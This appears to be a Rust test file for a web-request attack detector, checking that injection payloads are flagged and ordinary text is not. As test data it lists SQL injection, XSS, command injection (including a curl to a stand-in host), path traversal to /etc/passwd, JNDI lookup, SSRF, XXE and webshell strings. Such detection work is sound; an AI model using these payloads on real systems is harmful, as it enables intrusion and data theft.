//! What fires and what stays quiet, at the boundary.

mod classes;
mod copied;
mod fast_path;
mod grammar;
mod growth;
mod ordinary;
mod sought;
mod targets;
mod unspaced;
mod written;

use proptest::prelude::*;

use super::{Hit, Kind, Layers, Ordinary, Part, Request, Scratch, THRESHOLD, inspect};

fn hits(request: &Request<'_>) -> Vec<Hit> {
    let mut hits = Vec::new();
    inspect(request, Ordinary::default(), &mut Scratch::default(), &mut hits);
    hits
}

/// The hits of one percent-encoded query value.
fn of_value(value: &str) -> Vec<Hit> {
    let encoded: String = value.bytes().map(|byte| format!("%{byte:02X}")).collect();
    hits(&Request {
        method: b"GET",
        target: format!("/a?q={encoded}").as_bytes(),
        ..Request::default()
    })
}

fn fires(kind: Kind, values: &[&str]) {
    for value in values {
        let hits = of_value(value);
        assert!(
            hits.iter().any(|hit| hit.kind == kind && hit.score >= THRESHOLD),
            "{} in {value:?}: {hits:?}",
            kind.id()
        );
    }
}

fn quiet(values: &[&str]) {
    for value in values {
        let loud: Vec<_> =
            of_value(value).into_iter().filter(|hit| hit.score >= THRESHOLD).collect();
        assert!(loud.is_empty(), "{value:?}: {loud:?}");
    }
}

#[test]
fn sql_that_forms_clauses_fires() {
    fires(
        Kind::Sqli,
        &[
            "1 union all select null,null,version()--",
            "5' or '7'='7",
            "x') or 3=3 #",
            "9; drop table users--",
            "1 and sleep(4)",
            "1'||(select banner from v$version)||'",
            "3); waitfor delay '0:0:9'--",
            "admin'--",
            "1 order by 12--",
            "1/**/union/**/select/**/1",
            "1 /*!50000union*/ select 2",
            "0 or extractvalue(1,concat(0x7e,user()))",
            "2\" and \"a\" like \"a",
            "7) as t where 8=8 and 9=(select count(*) from all_users)",
            "name' from members-- ",
            "' from sys_user/*, '",
        ],
    );
}

#[test]
fn text_about_sql_stays_quiet() {
    quiet(&[
        "select the best from our menu where the chef decides",
        "O'Brien",
        "l'hospitalet d'urgell, l'escala",
        "drop me a line or call 555 and ask",
        "union of workers and select committees",
        "rock 'n' roll -- live",
        "and then there were none",
        "5 > 3 and 2 < 4",
        "update: after the meeting we delete nothing",
        "where to order by phone",
        "insert coin; select player",
        "he said \"yes\" and \"no\"",
        "john+or@var.example",
        "his parents' from Kent -- he is from Bath",
        "请选择 union 或 select 课程",
    ]);
}

#[test]
fn markup_that_runs_script_fires() {
    fires(
        Kind::Xss,
        &[
            "<script>x()</script>",
            "<img src=q onerror=top.z()>",
            "\" onmouseover=\"fetch(1)",
            "<a href=\"java\tscript:run()\">",
            "javascript:run(1)",
            "<svg/onload=z()>",
            "';alert(1)//",
            "<iframe src=//h.example>",
            "<div style=\"width:expression(z())\">",
            "&lt;script&gt;z()&lt;/script&gt;",
            "document.cookie",
            "[][(![]+[])[+[]]]",
        ],
    );
}

#[test]
fn ordinary_markup_and_prose_stay_quiet() {
    quiet(&[
        "<b>bold</b> and <a href=\"https://a.example/x\">link</a>",
        "a < b and c > d",
        "I <3 you",
        "on = off",
        "the documentation=on, location: Paris",
        "on Monday (at 9) = fine",
        "if (a == b) { return c; }",
        "email me at a.b@c.example",
        "javascript tutorial: how to",
    ]);
}

#[test]
fn commands_fire_and_words_do_not() {
    fires(
        Kind::Command,
        &[
            "; cat /etc/hosts",
            "1|id",
            "a && whoami",
            "`uname -a`",
            "$(curl http://h.example)",
            "x;c''at /etc/issue",
            "/bin/c?t /etc/h*s",
            "() { :; }; echo x",
            "127.0.0.1; ping -c 4 10.0.0.1",
            "powershell -enc AAAA",
        ],
    );
    quiet(&[
        "the cat; sleep well",
        "time flies & who cares",
        "ls 300 sedan",
        "echo in the mirror",
        "more; less; top of the list",
        "R&D department; find out more",
        "tom & jerry | friends",
        "cost: $5 or $10",
    ]);
}

#[test]
fn other_classes_fire() {
    fires(
        Kind::Traversal,
        &["../../../etc/passwd", "....//....//x", "..%2f..%2f..%2fx", "/WEB-INF/web.xml"],
    );
    fires(
        Kind::Template,
        &[
            "{{7*7}}",
            "${jndi:ldap://h.example/a}",
            "${${::-j}ndi:x}",
            "<!--#exec cmd=\"x\"-->",
            "#{9*9}",
        ],
    );
    fires(
        Kind::Ssrf,
        &[
            "http://169.254.169.254/latest",
            "http://127.0.0.1:9000/",
            "gopher://h:1/_x",
            "http://2130706433/",
        ],
    );
    fires(
        Kind::Xxe,
        &[
            "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///c\">]>",
            "a!ENTITY %\tb\nPUBLIC 'c' 'http://d/'",
            "b!entity c system",
        ],
    );
    fires(Kind::Deserialization, &["O:4:\"User\":1:{s:1:\"a\";}", "rO0ABXNyAA"]);
    fires(Kind::Nosql, &["{\"$gt\":\"\"}", "', $or: [ {}, { 'a':'a"]);
    fires(Kind::Ldap, &["*)(uid=*))(|(uid=*"]);
    fires(Kind::Mail, &["a\r\nbcc: x@y.example", "\nRCPT TO: x@y.example"]);
    fires(Kind::Code, &["<?php echo 1;", "system('ls')", "__proto__[a]", "process.env"]);
    fires(Kind::Code, &["function(a, b) {", "function f () {return 1}", "module.exports = 1"]);
}

#[test]
fn everyday_values_stay_quiet() {
    quiet(&[
        "https://www.example.com/a/b?c=d&e=f",
        "{\"name\":\"王小明\",\"age\":30,\"tags\":[\"a\",\"b\"]}",
        "images/../logo.png",
        "data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==",
        "QWxhZGRpbjpvcGVu",
        "f(x) = x^2 + 3*x - 7",
        "a/b/c.d-e_f",
        "2026-01-02T03:04:05+08:00",
        "+86 (10) 5555-1234",
        "关于召开“网络安全”工作会议的通知（2026）第3号",
        "C++ & C#: 100% (new!)",
    ]);
}

#[test]
fn requests_are_split_into_their_values() {
    let form = Request {
        method: b"POST",
        target: b"/",
        content_type: b"application/x-www-form-urlencoded",
        body: b"a=1&b=%3Cscript%3Ez()",
        ..Request::default()
    };
    let json = Request {
        content_type: b"application/json",
        body: br#"{"a":{"b":["1' or 1=1--"]}}"#,
        ..form
    };
    let xml = Request {
        content_type: b"text/xml",
        body: b"<?xml version=\"1.0\"?><a b=\"; cat /etc/passwd\"/>",
        ..form
    };
    let multipart = Request {
        content_type: b"multipart/form-data; boundary=xx",
        body: b"--xx\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.php.jpg\"\r\n\r\nz\r\n--xx--\r\n",
        ..form
    };
    for (request, kind, part) in [
        (form, Kind::Xss, Part::Body),
        (json, Kind::Sqli, Part::Body),
        (xml, Kind::Command, Part::Body),
        (multipart, Kind::Upload, Part::Body),
        (
            Request { cookie: b"a=b; c=%24%7Bjndi%3Aldap%3A//h/a%7D", ..Request::default() },
            Kind::Template,
            Part::Cookie,
        ),
        (
            Request { user_agent: b"sqlmap/1.7", ..Request::default() },
            Kind::ScannerAgent,
            Part::UserAgent,
        ),
        (
            Request { method: b"GET", target: b"/.git/config", ..Request::default() },
            Kind::AuthBypass,
            Part::Path,
        ),
        (
            Request { method: b"POST", target: b"/uploads/a.php?cmd=id", ..Request::default() },
            Kind::Webshell,
            Part::Path,
        ),
    ] {
        let hits = hits(&request);
        assert!(
            hits.iter().any(|hit| hit.kind == kind && hit.part == part && hit.score >= THRESHOLD),
            "{kind:?}: {hits:?}"
        );
    }
}

#[test]
fn layers_and_evidence_are_reported() {
    let hits = of_value("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg");
    let hit = hits.iter().find(|hit| hit.kind == Kind::Xss).expect("base64 script");
    assert_eq!(hit.evidence, b"<script>alert(1)</script>");
    assert!(hit.layers.contains(Layers::BASE64.with(Layers::PERCENT)));
    assert_eq!(hit.layers.names().collect::<Vec<_>>(), ["percent", "base64"]);
    let long = format!("{}' or 1=1--", "lorem ipsum ".repeat(100));
    let hits = of_value(&long);
    let hit = hits.iter().find(|hit| hit.kind == Kind::Sqli).expect("padded injection");
    assert!(hit.evidence.len() <= 256 && hit.evidence.ends_with(b"' or 1=1--"), "{hit:?}");
}

#[test]
fn kinds_are_listed_in_their_order_and_named_once() {
    assert!(Kind::ALL.iter().enumerate().all(|(index, kind)| *kind as usize == index));
    let mut ids: Vec<_> = Kind::ALL.iter().map(|kind| kind.id()).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), Kind::ALL.len());
}

/// Few, so that drawn requests have them again and again.
const VALUES: [&str; 12] = [
    "' or 1=1--",
    "1 union select password from users",
    "<script>alert(1)</script>",
    "%3Csvg%2Fonload%3Dalert(1)%3E",
    ";cat /etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "{{7*7}}",
    "O:8:\"stdClass\":0:{}",
    "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{\"a\": \"' or 1=1--\"}",
    "a+b+c;d",
    "(plain) words, nothing else",
];

proptest! {
    #[test]
    fn arbitrary_bytes_never_panic(
        target in prop::collection::vec(any::<u8>(), 0..300),
        body in prop::collection::vec(any::<u8>(), 0..300),
        kind in prop::sample::select(vec!["", "application/json", "text/xml", "multipart/form-data; boundary=a"]),
    ) {
        let first = hits(&Request { target: &target, body: &body, cookie: &body, user_agent: &target, referer: &body, content_type: kind.as_bytes(), ..Request::default() });
        prop_assert!(first.iter().all(|hit| hit.evidence.len() <= 256 && hit.score <= 1.0));
        let again = hits(&Request { target: &target, body: &body, cookie: &body, user_agent: &target, referer: &body, content_type: kind.as_bytes(), ..Request::default() });
        prop_assert_eq!(first, again);
    }

    /// What is remembered of values changes nothing: a worker that saw them before finds what a new one finds.
    #[test]
    fn what_came_before_does_not_change_what_is_found(
        seen in prop::collection::vec((prop::sample::select(VALUES.to_vec()), prop::sample::select(VALUES.to_vec()), 0..4_u8), 1..40),
    ) {
        let mut worker = Scratch::default();
        for (one, other, kind) in seen {
            let target = format!("/a/{other}?q={one}&r={other}");
            let body = format!("x={other}&y={one}");
            let json = format!("{{\"x\": {one:?}, \"y\": {other:?}}}");
            let request = Request { method: b"POST", target: target.as_bytes(), status: 200, ..Request::default() };
            let request = match kind {
                0 => request,
                1 => Request { referer: other.as_bytes(), cookie: one.as_bytes(), ..request },
                2 => Request { content_type: b"application/x-www-form-urlencoded", body: body.as_bytes(), ..request },
                _ => Request { content_type: b"application/json", body: json.as_bytes(), ..request },
            };
            let mut again = Vec::new();
            inspect(&request, Ordinary::default(), &mut worker, &mut again);
            prop_assert_eq!(again, hits(&request), "{} {}", target, body);
        }
    }

    #[test]
    fn attack_letters_never_panic(value in "[-a-z0-9'\"`<>(){}\\[\\]$&|;%#/*.,=!~:?@^ \\\\\n]{0,120}") {
        let _ = of_value(&value);
        let _ = hits(&Request { target: value.as_bytes(), body: value.as_bytes(), ..Request::default() });
    }
}
